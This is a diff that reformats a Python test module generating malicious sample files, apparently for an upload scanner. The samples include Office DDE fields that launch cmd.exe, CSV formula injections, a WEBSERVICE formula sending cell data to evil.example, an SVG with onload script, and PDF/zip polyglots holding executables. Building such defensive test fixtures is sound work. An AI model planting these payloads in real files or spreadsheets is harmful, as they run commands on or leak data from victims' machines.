@@ -70,7 +70,19 @@ def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> b
 
 def all_bad() -> Iterator[Bad]:
     """More than eighty."""
-    for make in (_no_kind, _programs, _archives, _office, _relations, _zip_tricks, _odf, _pdf, _pictures, _texts, _mails):
+    for make in (
+        _no_kind,
+        _programs,
+        _archives,
+        _office,
+        _relations,
+        _zip_tricks,
+        _odf,
+        _pdf,
+        _pictures,
+        _texts,
+        _mails,
+    ):
         yield from make()
 
 
@@ -128,8 +140,13 @@ def _archives() -> Iterator[Bad]:
 def _office() -> Iterator[Bad]:
     word, book, deck = good.a_docx("x"), good.an_xlsx("x"), good.a_pptx("x", chart=True)
     yield Bad("macro.docx", changed(word, {"word/vbaProject.bin": OLE}), ("macro",))
-    macro = part(word, "[Content_Types].xml").replace("wordprocessingml.document.main", "x").replace(
-        "application/vnd.openxmlformats-officedocument.x+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
+    macro = (
+        part(word, "[Content_Types].xml")
+        .replace("wordprocessingml.document.main", "x")
+        .replace(
+            "application/vnd.openxmlformats-officedocument.x+xml",
+            "application/vnd.ms-word.document.macroEnabled.main+xml",
+        )
     )
     yield Bad("a.docm", changed(word, {"[Content_Types].xml": macro.encode()}), ("macro",))
     stated = part(word, "[Content_Types].xml").replace("</Types>", TYPES)
@@ -158,7 +175,9 @@ def _office() -> Iterator[Bad]:
     field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
     yield Bad("dde.docx", inserted(word, "word/document.xml", "<w:sectPr", field), ("program",))
     split = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in ("DD", "EAU", "TO cmd"))
-    yield Bad("dde in stukken.docx", inserted(word, "word/document.xml", "<w:sectPr", f"<w:p>{split}</w:p>"), ("program",))
+    yield Bad(
+        "dde in stukken.docx", inserted(word, "word/document.xml", "<w:sectPr", f"<w:p>{split}</w:p>"), ("program",)
+    )
     dde = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
     yield Bad("dde.xlsx", changed(book, {"xl/externalLinks/externalLink1.xml": dde}), ("program",))
     yield Bad("zonder tekst.docx", changed(word, {"word/document.xml": None}), ("damaged",))
@@ -281,7 +300,7 @@ def _odf() -> Iterator[Bad]:
         made = content.replace(end, xml + end).encode()
         yield Bad("a.odt", _odf_with(text, {"content.xml": made}), (why,), f"odt with {xml[1:24]}")
     yield Bad("ole.odt", _odf_with(text, {"Object 1": OLE}), ("embedded", "nested"))
-    yield Bad("mimetype later.odt", changed(text, {"mimetype": None, "zz": b"<a/>"}) , ("archive", "unknown"))
+    yield Bad("mimetype later.odt", changed(text, {"mimetype": None, "zz": b"<a/>"}), ("archive", "unknown"))
 
 
 def _odf_with(content: bytes, changes: dict[str, bytes]) -> bytes:
@@ -313,7 +332,11 @@ def _pdf() -> Iterator[Bad]:
     yield Bad("afgekapt.pdf", whole[: len(whole) * 2 // 3], ("damaged",))
     yield Bad("alleen kop.pdf", b"%PDF-1.7\n", ("damaged",))
     yield Bad("rommel.pdf", b"%PDF-1.7\n" + b"rommel " * 50 + b"\n%%EOF", ("damaged",))
-    yield Bad("zonder pagina.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF", ("damaged",))
+    yield Bad(
+        "zonder pagina.pdf",
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
+        ("damaged",),
+    )
     yield Bad("met zip.pdf", whole + zipped(("a.exe", b"MZ")), ("polyglot",))
     inside = whole.replace(b"%%EOF", zipped(("a.exe", b"MZ")) + b"%%EOF")
     yield Bad("met zip erin.pdf", inside, ("polyglot",))
@@ -373,7 +396,7 @@ def _texts() -> Iterator[Bad]:
     yield Bad("svg.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>', ("svg",), "svg as png")
     yield Bad("dde.csv", b"naam,aantal\n=cmd|' /C calc'!A0,1\n", ("program",))
     yield Bad("dde plus.csv", b"naam;aantal\n+cmd|' /C calc'!A0;1\n", ("program",))
-    yield Bad("dde aanhaling.csv", b'naam,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n', ("program",))
+    yield Bad("dde aanhaling.csv", b"naam,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n", ("program",))
     yield Bad("web.csv", b'a,=WEBSERVICE("https://evil.example/?"&A1)\n', ("program",))
 
 
@@ -394,7 +417,11 @@ def _mails() -> Iterator[Bad]:
     head = b"From: a@b.example\r\nTo: c@d.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
     yield Bad("veel delen.eml", head + parts + b"--x--\r\n", ("bomb",))
     yield Bad("afgekapt.eml", good.a_mail("x", html=True)[:-60], ("damaged",))
-    yield Bad("versleuteld.eml", head.replace(b"multipart/mixed; boundary=x", b"application/pkcs7-mime") + b"MIIB", ("encrypted",))
+    yield Bad(
+        "versleuteld.eml",
+        head.replace(b"multipart/mixed; boundary=x", b"application/pkcs7-mime") + b"MIIB",
+        ("encrypted",),
+    )
     yield Bad("programma.eml", b"MZ\x90\x00\nFrom: a@b.example\nTo: c@d.example\n\n", ("executable",))
 
 
